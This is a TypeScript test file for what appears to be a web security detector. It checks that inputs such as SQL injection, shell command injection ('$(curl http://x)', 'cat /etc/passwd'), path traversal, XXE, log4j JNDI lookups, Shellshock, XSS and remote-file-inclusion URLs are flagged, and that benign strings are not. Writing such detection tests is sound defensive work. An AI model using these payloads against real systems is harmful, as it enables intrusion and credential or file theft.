import { expect, test } from 'vitest';
import { findPayload, findProbe, findRemoteFile } from '#shared/engine/detectors/probes/payloads.ts';

test.each([
  ["1' OR '1'='1", 'SQL'],
  ['1%2527%2520or%25201=1', 'SQL'],
  ['x UNION/**/SELECT password FROM users', 'SQL'],
  ["admin'--", 'SQL'],
  ['1; DROP TABLE users', 'SQL'],
  ['{"$ne": null}', 'NoSQL'],
  ['a; cat /etc/passwd', 'shell command'],
  ['$(curl http://x)', 'shell command'],
  ['../../../../etc/passwd', 'path traversal'],
  ['..%2f..%2fwin.ini', 'path traversal'],
  ['{{7*7}}', 'template'],
  ['<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>', 'XML entity'],
  ['*)(uid=*', 'LDAP'],
  ['${jndi:ldap://x/a}', 'log4j'],
  ['&lt;script&gt;alert(1)&lt;/script&gt;', 'script'],
  ['${${lower:j}ndi:${lower:l}dap://x.test/a}', 'log4j'],
  ['${jndi:${lower:l}${lower:d}a${lower:p}://x.test/a}', 'log4j'],
  ['() { :;}; /bin/bash -c id', 'Shellshock'],
  ['c:/win.ini', 'path traversal'],
  ['/etc/groups', 'path traversal'],
  ['JyBVTklPTiBTRUxFQ1QgKiBGUk9NIHVzZXJz', 'SQL'],
])('%s is %s', (text, kind) => {
  expect(findPayload(text)?.kind).toBe(kind);
});

test.each([
  "O'Brien",
  'select a size',
  'Rock & Roll; the best of',
  '{{name}}',
  'price < 100 and colour = red',
  '50% off (today only)',
  'https://shop.example/a?b=c&d=e',
  'created_at>=2026-01-01',
  'sort=-date,name',
  "it's this or that",
  '$filter=status eq open',
  'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.x',
  'Mike & Ike | id 5',
  '*.example.com',
])('%s is plain', (text) => {
  expect(findPayload(text)).toBeUndefined();
});

test.each([
  ['substr(', 'query', 'SQL'],
  ['||chr(', 'query', 'SQL'],
  ['information_schema.tables', 'query', 'SQL'],
  [',null,null', 'query', 'SQL'],
  ['<img', 'query', 'script'],
  ['%3Cframeset', 'query', 'script'],
  ['javascript:', 'query', 'script'],
  ['alert(', 'query', 'script'],
  ['/%2e%2e%2ffoo', 'path', 'path traversal'],
  ['/a/../b', 'path', 'path traversal'],
] as const)('a whole value %s of a %s feels for a filter: %s', (text, place, kind) => {
  expect(findProbe(text, place)?.kind).toBe(kind);
});

test.each([
  ['../home', 'query'],
  ['<b', 'query'],
  ['total(', 'query'],
  ['upper(name) of the table', 'query'],
  ['null', 'query'],
  ['/a/..b/c', 'path'],
  ['Mozilla/5.0 (X11; Linux; python 3.8)', 'header'],
] as const)('%s in a %s feels for none', (text, place) => {
  expect(findProbe(text, place)).toBeUndefined();
});

test('the address of a program is one only where none is taken', () => {
  expect(findRemoteFile('lang', 'http://x.test/rfiinc.txt')?.kind).toBe('remote file');
  expect(findRemoteFile('lang', 'http://x.test/c.php??')).toBeDefined();
  expect(findRemoteFile('callback_url', 'http://x.test/done.php')).toBeUndefined();
  expect(findRemoteFile('page', 'https://x.test/about')).toBeUndefined();
});
